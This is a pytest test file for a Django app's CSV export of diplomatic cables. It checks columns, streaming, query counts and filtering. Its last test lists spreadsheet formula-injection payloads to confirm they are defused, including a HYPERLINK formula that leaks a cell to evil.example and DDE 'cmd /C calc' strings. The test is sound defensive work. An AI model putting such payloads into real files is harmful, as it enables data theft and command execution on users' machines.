"""`/cables.csv`: the documented columns, every one filled, streamed in chunks of a fixed
number of queries, and cells a spreadsheet would run defused."""

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from cableroom.curation import edits as curation
from cableroom.models import Cable
from cableroom.views.exports import CSV_COLUMNS, permalink_maker
from tests import factories
from tests.paths import REPO

pytestmark = pytest.mark.django_db

# Pinned: scripts and spreadsheets address the columns by name and place.
DOCUMENTED_COLUMNS = [
    "reference_id",
    "date_time",
    "origin",
    "classification",
    "subject",
    "permalink",
    "released",
    "tags",
    "to",
    "info",
    "caveats",
    "version_count",
    "curated",
    "declassify_on",
    "classified_by",
    "classified_by_title",
    "reasons",
    "signer",
]


def csv_rows(client, query: str = "") -> list[list[str]]:
    response = client.get(f"/cables.csv{query}")
    assert response.status_code == 200
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def csv_dicts(client, query: str = "") -> dict[str, dict[str, str]]:
    header, *rows = csv_rows(client, query)
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows}


def readme_columns() -> list[str]:
    """The column names of the README's table of CSV columns, in order."""
    text = (REPO / "README.md").read_text()
    table = text.split("| column | what it holds |", 1)[1].split("\n\n", 1)[0]
    return re.findall(r"^\| `([a-z_]+)` \|", table, flags=re.MULTILINE)


def test_the_columns_are_the_pinned_ones_in_order(client, browse_sample):
    assert csv_rows(client)[0] == DOCUMENTED_COLUMNS == CSV_COLUMNS


def test_the_readme_documents_every_column_in_order():
    assert readme_columns() == CSV_COLUMNS


def test_every_column_of_a_cable(client, curator):
    cable = factories.cable(
        "06ASTANA33",
        date_time=datetime(2006, 1, 5, 10, 0, tzinfo=UTC),
        origin="Embassy Astana",
        classification="CONFIDENTIAL",
        subject="KAZAKHSTAN: TALKS",
        tags=("PREL", "KZ"),
        caveats=("NOFORN", "SIPDIS"),
        to=("Secretary of State", "Embassy Moscow"),
        info=("Embassy Almaty", "Secretary of State"),
        declassify_on="2016-01-05",
        classified_by="CDA Kevin Milas",
        classification_reasons="1.4(b), 1.4(d)",
        signer="MILAS",
    )
    later = datetime(2011, 8, 30, 1, 44, tzinfo=UTC)
    first = datetime(2010, 11, 28, 18, 6, tzinfo=UTC)
    factories.version(cable, "a later copy", source_format="cablegate-html", released=later)
    factories.version(cable, "a first copy", source_format="cablegate-html", released=first)
    curation.edit_cable(cable=cable, values={"subject": "KAZAKHSTAN: BORDER TALKS"}, user=curator)
    row = csv_dicts(client)["06ASTANA33"]
    assert row == {
        "reference_id": "06ASTANA33",
        "date_time": "2006-01-05T10:00:00+00:00",
        "origin": "Embassy Astana",
        "classification": "CONFIDENTIAL",
        "subject": "KAZAKHSTAN: BORDER TALKS",
        "permalink": "http://testserver/cable/06ASTANA33/",
        "released": "2010-11-28T18:06:00+00:00",
        "tags": "PREL; KZ",
        "to": "Secretary of State; Embassy Moscow",
        "info": "Embassy Almaty; Secretary of State",
        "caveats": "NOFORN; SIPDIS",
        "version_count": "3",
        "curated": "true",
        "declassify_on": "2016-01-05",
        "classified_by": "Kevin Milas",
        "classified_by_title": "Chargé d'Affaires",
        "reasons": "1.4(b); 1.4(d)",
        "signer": "Milas",
    }


@pytest.mark.parametrize("reference_id", ["06ASTANA33", "06 ODD%ID&X", "ÉTÉ?#1"])
def test_the_permalink_is_the_one_reverse_gives(rf, reference_id):
    request = rf.get("/cables.csv")
    expected = request.build_absolute_uri(reverse("cable-detail", args=[reference_id]))
    assert permalink_maker(request)(reference_id) == expected


def test_a_cable_with_nothing_to_list_has_empty_cells(client):
    factories.cable("06PLAIN1", to=(), paragraphs=())
    row = csv_dicts(client)["06PLAIN1"]
    assert [row[name] for name in ("released", "tags", "to", "info", "caveats")] == [""] * 5
    assert (row["version_count"], row["curated"]) == ("1", "false")


def test_every_matching_cable_is_streamed_in_result_order(client, browse_sample, monkeypatch):
    monkeypatch.setattr("cableroom.views.exports.CSV_CHUNK", 2)
    rows = csv_rows(client, "?tag=-RS")
    assert [row[0] for row in rows[1:]] == ["07STATE6", "07STATE5", "06ASTANA2", "05ASTANA1"]


def count_queries(client, query: str = "") -> int:
    client.get("/cables/")  # the browse index is built once, not by the export
    with CaptureQueriesContext(connection) as queries:
        csv_rows(client, query)
    return len(queries)


def test_queries_do_not_grow_with_the_rows(client, browse_sample):
    six = count_queries(client)
    for serial in range(20):
        factories.cable(f"08MORE{serial}", tags=("PREL",), caveats=("NOFORN",), to=("X",))
    assert len(csv_rows(client)) == 27
    assert count_queries(client) == six


def test_each_chunk_costs_a_fixed_number_of_queries(client, browse_sample, monkeypatch):
    monkeypatch.setattr("cableroom.views.exports.CSV_CHUNK", 3)
    two_chunks = count_queries(client)
    monkeypatch.setattr("cableroom.views.exports.CSV_CHUNK", 2)
    three_chunks = count_queries(client)
    # Each chunk: the cables (with their first release date), their tags, addressees
    # and caveats.
    assert three_chunks - two_chunks == 4


def test_a_bad_parameter_is_a_400_naming_it(client, browse_sample):
    response = client.get("/cables.csv?year=abc")
    assert response.status_code == 400
    assert response.content.decode().startswith("year: ")


def test_withdrawn_cables_are_left_out(client, browse_sample):
    Cable.objects.filter(reference_id="06MOSCOW3").update(withdrawn_at=datetime.now(UTC))
    assert "06MOSCOW3" not in csv_dicts(client)


HOSTILE_SUBJECTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_cells_a_spreadsheet_would_run_are_defused(client):
    for serial, subject in enumerate(HOSTILE_SUBJECTS):
        factories.cable(
            f"06EVIL{serial}",
            subject=subject,
            origin="=cmd|' /C calc'!A0",
            to=("@SUM(1)",),
            tags=("-X",),
        )
    factories.cable("06PLAIN9", subject="TALKS ON OIL = PROGRESS", origin="Embassy Astana")
    rows = csv_dicts(client)
    for serial, subject in enumerate(HOSTILE_SUBJECTS):
        row = rows[f"06EVIL{serial}"]
        assert row["subject"] == f"'{subject}"
        assert row["origin"] == "'=cmd|' /C calc'!A0"
        assert (row["to"], row["tags"]) == ("'@SUM(1)", "'-X")
    # Cells that do not start a formula are left as they were.
    assert rows["06PLAIN9"]["subject"] == "TALKS ON OIL = PROGRESS"
    assert rows["06PLAIN9"]["origin"] == "Embassy Astana"
